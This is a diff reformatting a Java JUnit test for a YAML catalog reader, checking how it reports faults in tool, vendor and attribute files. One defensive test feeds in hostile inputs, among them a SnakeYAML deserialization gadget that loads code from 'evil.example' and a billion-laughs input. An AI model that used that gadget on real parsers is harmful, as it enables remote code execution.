@@ -15,8 +15,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 
 class CatalogReaderTest {
     private static final LocalDate TODAY = LocalDate.of(2026, 11, 23);
-    private static final String ATTRIBUTES =
-            """
+    private static final String ATTRIBUTES = """
             - {key: encrypted, group: confidentiality, type: choice, values: ['yes', 'no']}
             - {key: methods, group: two-factor, type: set, values: [none, sms, totp]}
             - {key: size, group: basics, type: number, unit: MB}
@@ -25,8 +24,7 @@ class CatalogReaderTest {
     private static final String VENDORS = "- {slug: maker, name: Maker, homepage: 'https://maker.example'}\n";
 
     /** Line 1 is slug, 8 the first fact, 15 the second, 18 the third. */
-    private static final String TOOL =
-            """
+    private static final String TOOL = """
             slug: chat
             name: Chat
             vendor: maker
@@ -58,7 +56,9 @@ class CatalogReaderTest {
         var tool = content.tools().get(0);
         assertThat(tool.tool().name).isEqualTo("Chat");
         assertThat(tool.tool().domains).containsExactly("chat.example");
-        assertThat(tool.facts()).extracting(f -> List.of(f.answer)).containsExactly(List.of("yes"), List.of(), List.of("100"));
+        assertThat(tool.facts())
+                .extracting(f -> List.of(f.answer))
+                .containsExactly(List.of("yes"), List.of(), List.of("100"));
         assertThat(tool.facts().get(0).observedOn).isEqualTo(TODAY);
         assertThat(tool.facts().get(1).observedOn).isEqualTo(LocalDate.of(2026, 11, 22));
         assertThat(tool.facts().get(1).confidence).isNull();
@@ -66,11 +66,7 @@ class CatalogReaderTest {
 
     /** What is written instead of a line, and where the fault must be found. */
     @ParameterizedTest(name = "line {0}: {1}")
-    @CsvSource(
-            delimiter = '|',
-            quoteCharacter = '`',
-            textBlock =
-                    """
+    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
             9  | `    value: maybe`               | 9  | facts[0].value      | is none of yes, no
             9  | `    value: yes`                 | 9  | facts[0].value      | must be text
             9  | `    value: [yes]`               | 9  | facts[0].value      | must be text
@@ -120,9 +116,11 @@ class CatalogReaderTest {
     @Test
     void severalFaultsInSeveralFilesAreToldTogether() {
         var files = files(TOOL.replace("value: 'yes'", "value: perhaps").replace("confidence: C", "confidence: Z"));
-        files.put("vendors-2.yaml", "- {slug: maker, name: Again}\n- {slug: b, name: B, homepage: 'http://b.example'}\n");
+        files.put(
+                "vendors-2.yaml", "- {slug: maker, name: Again}\n- {slug: b, name: B, homepage: 'http://b.example'}\n");
         files.put("tools/other.yaml", "slug: other\n");
-        assertThat(faults(files)).extracting(f -> f.file() + ":" + f.line() + " " + f.field())
+        assertThat(faults(files))
+                .extracting(f -> f.file() + ":" + f.line() + " " + f.field())
                 .containsSubsequence(
                         "tools/chat.yaml:9 facts[0].value",
                         "tools/chat.yaml:23 facts[2].confidence",
@@ -135,17 +133,21 @@ class CatalogReaderTest {
     void theMessageReadsAsAList() {
         var thrown = thrown(files(TOOL.replace("category: team-chat", "category: x")));
         assertThat(thrown)
-                .hasMessageStartingWith("1 faults in the shipped files, nothing was loaded:\n  tools/chat.yaml:4 category: \"x\" is none of");
+                .hasMessageStartingWith(
+                        "1 faults in the shipped files, nothing was loaded:\n  tools/chat.yaml:4 category: \"x\" is none of");
         assertThat(thrown.getStackTrace()).isEmpty();
     }
 
     @Test
     void questionsAndVendorsAreCheckedToo() {
         var files = files(TOOL);
-        files.put("attributes.yaml", ATTRIBUTES + "- {key: size, group: nowhere, type: number}\n- {key: x, group: legal, type: choice}\n");
+        files.put(
+                "attributes.yaml",
+                ATTRIBUTES + "- {key: size, group: nowhere, type: number}\n- {key: x, group: legal, type: choice}\n");
         files.put("vendors.yaml", VENDORS + "- {slug: b, name: B, country: Malta}\n");
         files.put("notes.yaml", "a: b");
-        assertThat(faults(files)).extracting(Fault::toString)
+        assertThat(faults(files))
+                .extracting(Fault::toString)
                 .anyMatch(f -> f.startsWith("attributes.yaml:5 [4].group: \"nowhere\" is none of"))
                 .contains("attributes.yaml:6 [5].values: is missing", "vendors.yaml:2 [1].source: is missing")
                 .contains("notes.yaml:1 file: is neither attributes.yaml, vendors*.yaml nor in tools/");
@@ -154,20 +156,25 @@ class CatalogReaderTest {
     @Test
     void twoToolsOfOneNameAreAFault() {
         var files = files(TOOL);
-        files.put("tools/chat-2.yaml", TOOL.replace("slug: chat", "slug: chat-2").replace("name: Chat", "name: CHAT"));
+        files.put(
+                "tools/chat-2.yaml", TOOL.replace("slug: chat", "slug: chat-2").replace("name: Chat", "name: CHAT"));
         assertThat(faults(files)).extracting(Fault::field).containsExactly("name");
     }
 
     @Test
     void noneStandsAloneAndNothingIsNamedTwice() {
         var searched = "    searched: 2026-11-22\n    source: https://chat.example/help\n";
-        var known = "    value: %s\n    source: https://chat.example/help\n    kind: press\n    observed: 2026-11-22\n    confidence: B\n";
+        var known =
+                "    value: %s\n    source: https://chat.example/help\n    kind: press\n    observed: 2026-11-22\n    confidence: B\n";
         assertThat(faults(files(TOOL.replace(searched, known.formatted("[none, sms]")))))
-                .extracting(Fault::problem).containsExactly("\"none\" stands alone");
+                .extracting(Fault::problem)
+                .containsExactly("\"none\" stands alone");
         assertThat(faults(files(TOOL.replace(searched, known.formatted("[sms, sms]")))))
-                .extracting(Fault::problem).containsExactly("names something twice");
+                .extracting(Fault::problem)
+                .containsExactly("names something twice");
         assertThat(faults(files(TOOL.replace(searched, known.formatted("[]")))))
-                .extracting(Fault::field).containsExactly("facts[1].value");
+                .extracting(Fault::field)
+                .containsExactly("facts[1].value");
     }
 
     @Test
@@ -177,7 +184,9 @@ class CatalogReaderTest {
         var large = "slug: " + "x".repeat(300_000);
         var object = "!!javax.script.ScriptEngineManager [!!java.net.URL ['https://evil.example']]";
         for (var text : List.of(deep, laughs, large, object, "", "---\na: b\n---\nc: d\n", "\u0000", "\t- x")) {
-            assertThat(faults(files(text))).as(text.substring(0, Math.min(20, text.length()))).isNotEmpty();
+            assertThat(faults(files(text)))
+                    .as(text.substring(0, Math.min(20, text.length())))
+                    .isNotEmpty();
         }
     }
 
